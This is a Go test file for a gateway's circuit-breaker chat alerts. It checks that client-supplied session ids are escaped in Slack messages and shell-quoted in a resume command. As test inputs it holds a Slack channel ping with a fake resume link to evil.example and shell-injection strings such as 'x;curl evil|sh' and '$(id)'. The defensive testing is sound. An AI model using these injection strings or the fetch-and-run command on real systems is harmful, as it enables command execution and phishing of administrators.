package breaker

import (
	"os/exec"
	"strings"
	"testing"
)

// TestChatLineEscapesSessionID (H10-4): a session id is the client's
// text: one that spells a Slack ping and a labelled "Resume" link reaches
// the chat as text beside the real resume link.
func TestChatLineEscapesSessionID(t *testing.T) {
	sid := "<!channel> <http://evil.example/resume|Resume here> [Resume](http://evil.example/r)"
	line := chatLine(Trip{Action: ActionPause, SessionID: sid, KeyID: "carol", URL: "https://gw.example/modelgate/breaker/resume?t=x"}, "looping", "carol")
	if strings.ContainsAny(line, "<>") || strings.Contains(line, "](") || !strings.Contains(line, "&lt;!channel&gt;") ||
		!strings.Contains(line, "resume: https://gw.example/modelgate/breaker/resume?t=x or") {
		t.Fatalf("line %q", line)
	}
}

// TestChatLineKeepsTheResumeCommandWhole: the resume command is copied by
// an admin, so its ids are escaped but never cut, whatever their length
// as sent (a session id is up to 128 bytes of the client's text).
func TestChatLineKeepsTheResumeCommandWhole(t *testing.T) {
	sid := strings.Repeat("a", 76) + "&&&b" + strings.Repeat("c", 48)
	for _, action := range []string{ActionPause, ActionStop} {
		line := chatLine(Trip{Action: action, SessionID: sid, KeyID: "key_abc"}, "looping", "carol")
		want := "`caddy modelgate resume '" + strings.Repeat("a", 76) + "&amp;&amp;&amp;b" + strings.Repeat("c", 48) + "' --api-key-id key_abc`"
		if !strings.Contains(line, want) {
			t.Errorf("%s: line %q lacks the whole command %q", action, line, want)
		}
	}
}

// TestShellWordIsOneArgument: whatever the client put in its session id,
// the resume command an admin pastes into a shell passes it as one
// argument, unexpanded.
func TestShellWordIsOneArgument(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	for _, id := range []string{"sess-1", "x;curl evil|sh", "a'b", "$(id)", "`id`", "a b", "", "''", `\'`, "key_abc", "*", "=ls"} {
		out, err := exec.Command(sh, "-c", "printf '[%s]' "+shellWord(id)).Output()
		if err != nil || string(out) != "["+id+"]" {
			t.Errorf("shellWord(%q) = %s: the shell read %q (%v)", id, shellWord(id), out, err)
		}
	}
	if got := shellWord("sess-1"); got != "sess-1" {
		t.Errorf("a plain id is quoted: %s", got)
	}
	// zsh reads "=ls" as the path of ls; sh cannot show it, so the
	// quoting is held directly.
	if got := shellWord("=ls"); got != "'=ls'" {
		t.Errorf("shellWord(=ls) = %s, want it quoted", got)
	}
}
